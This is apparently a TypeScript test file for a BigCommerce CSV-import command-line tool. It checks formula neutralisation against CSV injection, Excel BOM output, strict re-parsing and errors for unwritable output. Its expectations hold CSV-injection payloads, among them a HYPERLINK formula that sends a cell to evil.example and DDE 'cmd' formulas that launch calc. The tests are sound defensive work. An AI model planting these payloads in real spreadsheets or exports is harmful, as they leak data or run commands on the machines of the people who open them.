// Issue 5 "Writing results": cells that a spreadsheet would run as formulas are neutralised in the
// results file (OWASP CSV injection) while BigCommerce gets the real values; --excel adds a BOM; the
// results file re-parses strictly to exactly one record per input row, however awkward the input.
import { existsSync } from "node:fs";
import { mkdir, readFile, symlink } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import {
  checkInvariants,
  expectFatal,
  orderRows,
  parseResults,
  prepareInput,
  REPO_ROOT,
  readResults,
  runCli,
  sandboxEnv,
  startE2eSandbox,
  tempDir,
  writeCsv,
} from "../helpers/cli.js";

const fixture = (name: string): string => join(REPO_ROOT, "test", "fixtures", name);

/** First characters that make Excel, LibreOffice or Sheets evaluate a cell (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** The formula fixture's cells as written (a plain RFC 4180 file). */
async function formulaInput(): Promise<{ header: string[]; rows: string[][] }> {
  const [header, ...rows] = parse(await readFile(fixture("formula-payloads.csv"))) as string[][];
  return { header: header as string[], rows };
}

describe("formula payloads, end to end", () => {
  it("are neutralised in the results file and sent to BigCommerce as written", async () => {
    const sandbox = await startE2eSandbox();
    const { input, results } = await prepareInput("formula-payloads.csv");
    const run = await runCli([input, "--quiet"], { env: sandboxEnv(sandbox) });

    const file = await readResults(results);
    // `input` makes checkInvariants compare every input cell with its neutralised form.
    checkInvariants({
      inputRows: 3,
      results: file,
      sandbox,
      run,
      expectCode: 0,
      input: await formulaInput(),
    });
    expect(file.records.map((record) => record.slice(0, 4))).toEqual([
      [
        "12345",
        `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
      ],
      ["12346", "'-2+3", "'=1+1", "'=cmd|'/c calc'!A1"],
      ["12347", "'\tTab first", "'\rCR first", "'\uFF1D1+2"],
    ]);
    for (const record of file.records) {
      for (const cell of record) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    }
    // Not UTF-8 with BOM unless asked (--excel).
    expect((await readFile(results)).subarray(0, 3).equals(BOM)).toBe(false);

    // BigCommerce holds the row's real values, not the neutralised ones.
    expect(sandbox.store.getOrder(12345)).toMatchObject({
      staff_notes: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      customer_message: "+cmd|' /C calc'!A0",
    });
    expect(sandbox.store.getOrder(12345)?.billing_address.company).toBe("@SUM(1+1)");
    expect(sandbox.store.getOrder(12346)).toMatchObject({
      staff_notes: "-2+3",
      customer_message: "=1+1",
    });
    expect(sandbox.store.getOrder(12346)?.billing_address.company).toBe("=cmd|'/c calc'!A1");
    expect(sandbox.store.getOrder(12347)).toMatchObject({
      staff_notes: "\tTab first",
      customer_message: "\rCR first",
    });
    expect(sandbox.store.getOrder(12347)?.billing_address.company).toBe("\uFF1D1+2");
  });

  it("are neutralised on stdout (--output -) too", async () => {
    const { input } = await prepareInput("formula-payloads.csv");
    const run = await runCli(["validate", input, "--output", "-", "--quiet"]);
    expect(run.code, run.stderr).toBe(0);
    const file = parseResults(run.stdout);
    checkInvariants({
      inputRows: 3,
      results: file,
      run,
      expectCode: 0,
      input: await formulaInput(),
    });
    expect(file.rows[0]?.staff_notes).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
  });
});

describe("--excel, end to end", () => {
  it("adds a UTF-8 BOM to the results and failed-rows files; accents read back as written", async () => {
    const sandbox = await startE2eSandbox();
    const dir = await tempDir("bc-output-safety-");
    const header = ["order_id", "billing_first_name", "staff_notes"];
    const rows = [
      ["12346", "José", "Entrega 5€"],
      ["99999", "Zoë", "no such order"],
    ];
    const input = await writeCsv(join(dir, "excel.csv"), header, rows);
    const run = await runCli([input, "--quiet", "--excel"], { env: sandboxEnv(sandbox) });

    const resultsPath = join(dir, "excel.results.csv");
    const bytes = await readFile(resultsPath);
    expect(bytes.subarray(0, 3).equals(BOM)).toBe(true);
    // Exactly one BOM, then the header.
    expect(bytes.subarray(3, 11).toString("utf8")).toBe("order_id");
    const file = await readResults(resultsPath);
    checkInvariants({
      inputRows: 2,
      results: file,
      sandbox,
      run,
      expectCode: 1,
      input: { header, rows },
    });
    expect(file.rows.map((row) => [row.billing_first_name, row.result])).toEqual([
      ["José", "updated"],
      ["Zoë", "failed"],
    ]);
    expect(sandbox.store.getOrder(12346)?.billing_address.first_name).toBe("José");

    const failedPath = join(dir, "excel.results.failed.csv");
    expect((await readFile(failedPath)).subarray(0, 3).equals(BOM)).toBe(true);
    const failed = await readResults(failedPath);
    expect(failed.header).toEqual(header);
    expect(failed.records).toEqual([["99999", "Zoë", "no such order"]]);
  });
});

describe("the results file re-parses strictly to one record per input row", () => {
  it.each([
    { name: "ragged-rows.csv", rows: 4, excel: false },
    { name: "embedded-newlines.csv", rows: 4, excel: true },
    { name: "crlf.csv", rows: 3, excel: false },
    { name: "mixed-line-endings.csv", rows: 4, excel: true },
    { name: "cr-only.csv", rows: 2, excel: false },
    { name: "utf16le-tab-export.csv", rows: 3, excel: true },
    { name: "semicolon-comma-values.csv", rows: 3, excel: false },
    { name: "relaxed-quotes.csv", rows: 2, excel: true },
    { name: "excel-trailing-empty-rows.csv", rows: 2, excel: false },
    { name: "tracking-numbers-as-text.csv", rows: 6, excel: true },
  ])("$name (excel: $excel)", async ({ name, rows, excel }) => {
    const { input } = await prepareInput(name);
    // validate's own default name (issue 7).
    const results = input.replace(/\.csv$/, ".validate.csv");
    const run = await runCli(["validate", input, "--quiet", ...(excel ? ["--excel"] : [])]);
    // readResults parses with no relax option: a ragged record or a stray quote throws.
    const file = await readResults(results);
    const summary = checkInvariants({ inputRows: rows, results: file, run, expectCode: [0, 1] });
    for (const record of file.records) expect(record).toHaveLength(file.header.length);
    const bad = rows - (summary.counts.valid ?? 0);
    expect(run.code).toBe(bad === 0 ? 0 : 1);
    if (bad > 0) {
      const failed = await readResults(results.replace(/\.csv$/, ".failed.csv"));
      expect(failed.records).toHaveLength(bad);
      for (const record of failed.records) expect(record).toHaveLength(failed.header.length);
    }
  });
});

describe("an output that cannot be written", () => {
  /** Where validate is told to write, and what the failure must name; `dir` holds the input. */
  type Arrange = (dir: string) => Promise<{ output: string; names: string[] }>;

  it.each<{ what: string; code: string; rows: number; leavesNoResults: boolean; arrange: Arrange }>(
    [
      {
        what: "results path in a missing directory",
        code: "E_OUTPUT_UNWRITABLE",
        rows: 1,
        leavesNoResults: false, // its directory does not exist
        arrange: async (dir) => {
          const output = join(dir, "missing", "out.csv");
          return { output, names: [output] };
        },
      },
      {
        what: "failed-rows path that is a directory",
        code: "E_OUTPUT_UNWRITABLE",
        rows: 1,
        leavesNoResults: true,
        arrange: async (dir) => {
          await mkdir(join(dir, "out.failed.csv"));
          return { output: join(dir, "out.csv"), names: ["out.failed.csv"] };
        },
      },
      {
        // Writing to /dev/full fails with ENOSPC, like a full disk: no crash, no hang.
        what: "results file full mid-run (/dev/full)",
        code: "E_OUTPUT_WRITE",
        rows: 5000,
        leavesNoResults: false,
        arrange: async (dir) => {
          const output = join(dir, "out.csv");
          await symlink("/dev/full", output);
          return { output, names: [output] };
        },
      },
    ],
  )(
    "$what: exit 2 with $code, naming the file",
    async ({ code, rows, leavesNoResults, arrange }) => {
      const dir = await tempDir("bc-output-safety-");
      const input = await writeCsv(
        join(dir, "orders.csv"),
        ["order_id", "staff_notes"],
        Array.from({ length: rows }, (_, i) => [String(i + 1), `note ${i}`]),
      );
      const { output, names } = await arrange(dir);
      const run = await runCli(["validate", input, "-o", output]);
      expectFatal(run, code, { names });
      if (leavesNoResults) expect(existsSync(output)).toBe(false);
    },
  );

  it("the failed-rows file failing during a run stops it: few rows applied, exit 2", async () => {
    const rows = 40;
    const sandbox = await startE2eSandbox({
      seed: { generate: { orders: rows } },
      latencyMs: 20,
    });
    const dir = await tempDir("bc-output-safety-");
    const { header, rows: data } = orderRows(rows, "note");
    const input = await writeCsv(join(dir, "orders.csv"), header, data);
    const output = join(dir, "orders.results.csv");
    await symlink("/dev/full", join(dir, "orders.results.failed.csv"));
    const run = await runCli([input, "-o", output, "--concurrency", "2", "--quiet"], {
      env: sandboxEnv(sandbox),
    });
    expectFatal(run, "E_OUTPUT_WRITE", { names: ["orders.results.failed.csv"] });
    expect(sandbox.stats().writesApplied).toBeLessThan(rows / 2);
  });
});
